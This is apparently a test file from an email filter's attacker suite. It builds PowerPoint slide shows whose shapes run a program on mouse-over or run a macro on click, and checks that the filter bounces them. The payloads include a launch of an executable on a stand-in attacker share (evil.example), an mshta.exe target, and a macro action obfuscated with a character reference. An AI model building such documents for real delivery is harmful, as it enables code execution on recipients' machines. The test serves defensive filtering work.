import { zipFile } from '@wmflow/core/testing';
import { describe, expect, it } from 'vitest';
import { attachedFile, attackerKit } from './attacker-kit.js';
import { useLocalStack } from './stack.js';

// Attacker round 52, A52-12: a PowerPoint show (.ppsx opens straight into the slide show) whose shape runs a
// program on mouse-over (`<a:hlinkHover action="ppaction://program"/>`) through a hyperlink relationship, which the
// reader of external relationships leaves alone as a link a reader clicks. PowerPoint asks before it runs the
// program once editing is enabled; a slide action that runs a program or a macro is refused all the same.
const stack = useLocalStack();
const kit = attackerKit(stack);
const HYPER = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink';
const show = (target: string, how: 'hlinkHover' | 'hlinkClick', action = 'ppaction://program') =>
  zipFile([
    {
      name: '[Content_Types].xml',
      data: '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/ppt/presentation.xml" ContentType="application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml"/></Types>',
    },
    {
      name: 'ppt/presentation.xml',
      data: '<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
    },
    {
      name: 'ppt/slides/slide1.xml',
      data: `<p:sld xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><p:cSld><p:spTree><p:sp><p:nvSpPr><p:cNvPr id="2" name="Box"><a:${how} r:id="rId2" action="${action}"/></p:cNvPr></p:nvSpPr><p:txBody><a:p><a:r><a:t>Loading...</a:t></a:r></a:p></p:txBody></p:sp></p:spTree></p:cSld></p:sld>`,
    },
    {
      name: 'ppt/slides/_rels/slide1.xml.rels',
      data: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId2" Type="${HYPER}" Target="${target}" TargetMode="External"/></Relationships>`,
    },
  ]);
describe('A52-12: a PowerPoint show that runs a program on mouse-over', () => {
  for (const [how, file] of Object.entries({
    'hover runs a share exe': show('file:///\\\\evil.example\\s\\invoice.exe', 'hlinkHover'),
    'hover runs a local program with args': show('file:///C:\\Windows\\System32\\mshta.exe', 'hlinkHover'),
  }))
    it(`bounces ${how}`, async () => {
      const [m] = attachedFile('Deck.ppsx', file);
      expect((await kit.inbound(m)).verdict).toBe('BOUNCE');
    });
  it('bounces a click that runs a macro, the action written with a character reference', async () => {
    const [m] = attachedFile(
      'Deck.ppsx',
      show('https://example.com/', 'hlinkClick', 'ppaction&#58;//macro?name=Run'),
    );
    expect((await kit.inbound(m)).verdict).toBe('BOUNCE');
  });
  it('(control) delivers a show whose shape links to a web page and jumps to the next slide', async () => {
    const [m] = attachedFile(
      'Deck.ppsx',
      show('https://example.com/', 'hlinkClick', 'ppaction://hlinkshowjump?jump=nextslide'),
    );
    expect((await kit.inbound(m)).verdict).toBe('DEFAULT');
  });
});
